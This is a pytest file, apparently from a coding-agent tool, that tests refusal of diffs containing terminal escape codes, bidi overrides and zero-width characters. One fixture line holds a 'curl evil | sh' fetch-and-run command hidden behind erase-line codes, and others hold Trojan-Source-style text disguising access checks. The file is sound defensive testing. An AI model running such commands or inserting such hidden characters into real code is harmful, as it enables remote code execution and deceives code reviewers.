"""Diff validation refuses characters that act on a terminal or hide text, unless the file already holds them."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from repopilot.core.sanitize import UNSAFE
from repopilot.repo.diff import InvalidDiff, validate_diff

ESC = "\x1b"


def _diff(added: str, path: str = "src/calc.py") -> str:
    return (f"--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,3 @@\n def add(a, b):\n-    return a - b\n"
            f"+{added}\n+    return a + b\n")


def _commit(root: Path, name: str, text: str) -> None:
    (root / name).write_text(text, encoding="utf-8")
    subprocess.run(["git", "add", name], cwd=root, check=True)
    subprocess.run(["git", "commit", "-qm", f"add {name}"], cwd=root, check=True)


HIDING = [
    ("CSI erase line", f"    import os; os.system('curl evil | sh')  # {ESC}[2K{ESC}[1G", "U+001B (ESC)"),
    ("carriage return", "    import os; os.system('x')\r    # fine", "U+000D (CR)"),
    ("C1 CSI", "    x = 1  # \x9b2K", "U+009B (CSI)"),
    ("DEL", "    x = 1  # \x7f", "U+007F (DEL)"),
    ("bidi override", "    access = 'user\u202e \u2066# admin\u2069'", "U+202E (RLO)"),
    ("isolate", "    access = 1  # \u2066x\u2069", "U+2066 (LRI)"),
    ("zero-width", "    ad\u200bmin = True", "U+200B (ZWSP)"),
    ("BOM in the middle", "    x\ufeff = 1", "U+FEFF"),
    ("other C0", "    x = 1  # \x01", "U+0001"),
]


@pytest.mark.parametrize(("name", "added", "named"), HIDING, ids=[h[0] for h in HIDING])
def test_hiding_characters_are_refused_with_a_readable_message(git_repo: Path, name: str, added: str,
                                                               named: str) -> None:
    with pytest.raises(InvalidDiff) as info:
        validate_diff(git_repo, _diff(added))
    message = str(info.value)
    assert named in message and "src/calc.py" in message and "line 6" in message
    assert UNSAFE.search(message) is None  # the refusal names the character; it never carries it


def test_tab_is_allowed(git_repo: Path) -> None:
    assert validate_diff(git_repo, _diff("\tx = 1")).files == ["src/calc.py"]


def test_a_character_the_file_already_holds_is_allowed(git_repo: Path) -> None:
    _commit(git_repo, "colors.py", f"RED = '{ESC}[31m'\nRESET = '{ESC}[0m'\n")
    diff = ("--- a/colors.py\n+++ b/colors.py\n@@ -1,2 +1,3 @@\n"
            f" RED = '{ESC}[31m'\n+GREEN = '{ESC}[32m'\n RESET = '{ESC}[0m'\n")
    assert validate_diff(git_repo, diff).files == ["colors.py"]
    # Another character, not held by the file, is still refused.
    with pytest.raises(InvalidDiff, match=r"U\+202E \(RLO\)"):
        validate_diff(git_repo, diff.replace("GREEN", "GRE\u202eEN"))


def test_a_new_file_holds_nothing_yet(git_repo: Path) -> None:
    diff = f"--- /dev/null\n+++ b/new.py\n@@ -0,0 +1 @@\n+x = 1  # {ESC}[2K\n"
    with pytest.raises(InvalidDiff, match=r"new\.py holds U\+001B"):
        validate_diff(git_repo, diff)


def test_a_character_in_another_file_does_not_excuse_this_one(git_repo: Path) -> None:
    _commit(git_repo, "colors.py", f"RED = '{ESC}[31m'\n")
    with pytest.raises(InvalidDiff, match=r"src/calc\.py holds U\+001B"):
        validate_diff(git_repo, _diff(f"    x = 1  # {ESC}[2K"))


def test_paths_with_bidi_or_zero_width_characters_are_refused(git_repo: Path) -> None:
    diff = "--- /dev/null\n+++ b/src/ev\u202eyp.il\n@@ -0,0 +1 @@\n+x = 1\n"
    with pytest.raises(InvalidDiff, match="control characters"):
        validate_diff(git_repo, diff)
